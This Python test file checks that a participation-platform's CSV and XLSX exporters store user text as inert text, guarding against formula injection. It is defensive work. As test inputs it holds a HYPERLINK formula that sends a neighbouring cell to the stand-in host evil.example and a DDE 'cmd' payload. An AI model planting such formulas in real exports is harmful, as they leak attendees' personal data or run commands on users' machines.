"""Every spreadsheet lpip writes holds participants' text as text, never as a live formula (OWASP
"CSV injection"): each exporter is fed text that a spreadsheet would run, and its files are read
back as a spreadsheet program would see them. XLSX: no cell typed as a formula (openpyxl
``data_type`` "f"); CSV: such values begin with an apostrophe.

One file for one property of every exporter (workshops, attendees, coding, codebooks, opinion
groups, the atlas's downloads, indicator exports), as tests/test_layers.py is for the layers.
"""

from __future__ import annotations

import csv
from pathlib import Path
from types import SimpleNamespace

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from lpip.workshops.attendees import export_attendees, register_attendee
from lpip.workshops.capture import add_note, add_priority, add_statement, cast_vote, join_workshop
from lpip.workshops.exports import export_workshop
from lpip.workshops.models import HostLink
from lpip.workshops.workshops import RoundSpec, create_workshop, open_round, set_voting

# What an attacker would type: a formula that sends the next cell (names, emails) away, and the
# other characters spreadsheets start a formula with.
EXFILTRATE = '=HYPERLINK("http://evil.example/?d="&B2,"Click")'
FORMULAS = [EXFILTRATE, "+SUM(1,2)", "-2+3*cmd|' /C calc'!A0", "@SUM(1+1)", "=1+1"]
STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8-sig") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def assert_csv_safe(path: Path, expected: list[str]) -> None:
    """No cell that holds one of ``expected`` starts as a formula; each is there with its apostrophe."""
    cells = csv_cells(path)
    for text in expected:
        assert text not in cells, f"{path.name}: {text!r} written raw"
        assert any(cell == "'" + text or cell.startswith("'" + text) for cell in cells), f"{path.name}: {text!r} missing"
    assert not [c for c in cells if c.startswith(STARTS) and not _number(c)], path.name


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_xlsx_safe(path: Path, expected: list[str]) -> None:
    book = load_workbook(path)  # not data_only: formulas would come back as formulas
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name} {sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(STARTS):
                        assert cell.data_type == "s", f"{sheet.title}!{cell.coordinate}"
    for text in expected:
        assert any(text in value for value in texts), f"{path.name}: {text!r} missing"


# ---- workshops -----------------------------------------------------------------------------------


@pytest.fixture
def hostile_workshop(session):
    """A workshop whose every text field someone filled with a formula."""
    workshop = create_workshop(session, "=TITLE()", [RoundSpec("+QUESTION()")], tables=2, venue="@VENUE")
    open_round(session, workshop.id, 1)
    set_voting(session, workshop.id, voting_open=True, harvest_open=True)
    link = session.scalar(select(HostLink).where(HostLink.workshop_id == workshop.id, HostLink.table_number == 1))
    add_note(session, link, EXFILTRATE, "formula-note-01")
    author, voter = join_workshop(session, workshop.join_code), join_workshop(session, workshop.join_code)
    statement, _ = add_statement(session, author, "+SUM(1,2)", "formula-stmt-01")
    cast_vote(session, voter, statement.id, "agree")
    add_priority(session, workshop.id, "@SUM(1+1)")
    register_attendee(session, workshop.id, "=1+1", "public", email="x@example.org", organisation="-2+3*cmd|' /C calc'!A0")
    session.flush()
    return workshop


def test_workshop_csv_export_prefixes_formulas(session, hostile_workshop, tmp_path):
    export_workshop(session, hostile_workshop.id, "csv", tmp_path / "csv")
    assert_csv_safe(tmp_path / "csv" / "notes.csv", [EXFILTRATE])
    assert_csv_safe(tmp_path / "csv" / "statements.csv", ["+SUM(1,2)"])
    assert_csv_safe(tmp_path / "csv" / "priorities.csv", ["@SUM(1+1)"])
    assert_csv_safe(tmp_path / "csv" / "attendees.csv", ["=1+1", "-2+3*cmd|' /C calc'!A0"])


def test_workshop_xlsx_export_has_no_formula_cells(session, hostile_workshop, tmp_path):
    export_workshop(session, hostile_workshop.id, "xlsx", tmp_path / "workshop.xlsx")
    assert_xlsx_safe(tmp_path / "workshop.xlsx", FORMULAS)


def test_polis_export_prefixes_formulas(session, hostile_workshop, tmp_path):
    # The deposit is no longer a pol.is export (lpip deposit build, tests/archive): its CSVs go
    # through the same lpip.spreadsheets.write_csv.
    export_workshop(session, hostile_workshop.id, "polis", tmp_path / "polis")
    assert_csv_safe(tmp_path / "polis" / "comments.csv", ["+SUM(1,2)"])
    for name in ("votes.csv", "participants-votes.csv", "summary.csv"):
        assert_csv_safe(tmp_path / "polis" / name, [])


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_attendee_list_export_writes_names_as_text(session, hostile_workshop, tmp_path, suffix):
    path = tmp_path / f"attendees{suffix}"
    export_attendees(session, hostile_workshop.id, path)
    expected = ["=1+1", "-2+3*cmd|' /C calc'!A0"]
    (assert_csv_safe if suffix == ".csv" else assert_xlsx_safe)(path, expected)


# ---- what was said: coding sheets, codebooks, opinion groups -----------------------------------------


def test_coding_sheet_and_codebook_prefix_formulas(tmp_path):
    from lpip.deliberation.codebook import default_codebook, write_codebook
    from lpip.deliberation.coding import coding_sheet, write_coding_sheet

    contributions = pd.DataFrame({"contribution_id": [1, 2], "text": [EXFILTRATE, "+SUM(1,2)"], "kind": ["note", "note"]})
    write_coding_sheet(coding_sheet(contributions, default_codebook(), coder="@analyst"), tmp_path / "sheet.csv")
    assert_csv_safe(tmp_path / "sheet.csv", [EXFILTRATE, "+SUM(1,2)", "@analyst"])
    book = default_codebook()
    book.loc[book.index[0], "description"] = "=1+1"
    write_codebook(book, tmp_path / "codebook.csv")
    assert_csv_safe(tmp_path / "codebook.csv", ["=1+1"])


def test_opinion_groups_file_prefixes_formulas(tmp_path):
    from lpip.cli.opinions import _write_groups

    participants = pd.DataFrame({"participant": ["=1+1", "7"], "group": [0, None]})
    _write_groups(participants, None, tmp_path / "groups.csv")
    assert_csv_safe(tmp_path / "groups.csv", ["=1+1"])


# ---- evidence: indicator exports and the atlas's downloads -----------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_indicator_export_writes_text_as_text(tmp_path, fmt):
    from lpip.evidence.export import write_export

    frame = pd.DataFrame({"area_code": ["E08000025"], "area_name": [EXFILTRATE], "value": [-2.5], "note": ["-minus"]})
    path = write_export(frame, fmt, tmp_path / f"export.{fmt}")
    if fmt == "csv":
        assert_csv_safe(path, [EXFILTRATE, "-minus"])
        assert "-2.5" in csv_cells(path)  # numbers stay numbers
    else:
        assert_xlsx_safe(path, [EXFILTRATE, "-minus"])
        assert load_workbook(path).active["C2"].value == -2.5


def test_atlas_downloads_prefix_formulas(tmp_path):
    from lpip.reports.atlas import write_tables

    (tmp_path / "downloads").mkdir()
    frame = pd.DataFrame({"area_name": ["@SUM(1+1)", "Walsall"], "value": [1.0, -2.0]})
    write_tables(tmp_path, SimpleNamespace(benchmarks=frame, deprivation=frame.rename(columns={"value": "score"})))
    for name in ("profiles-indicators.csv", "profiles-deprivation.csv"):
        assert_csv_safe(tmp_path / "downloads" / name, ["@SUM(1+1)"])
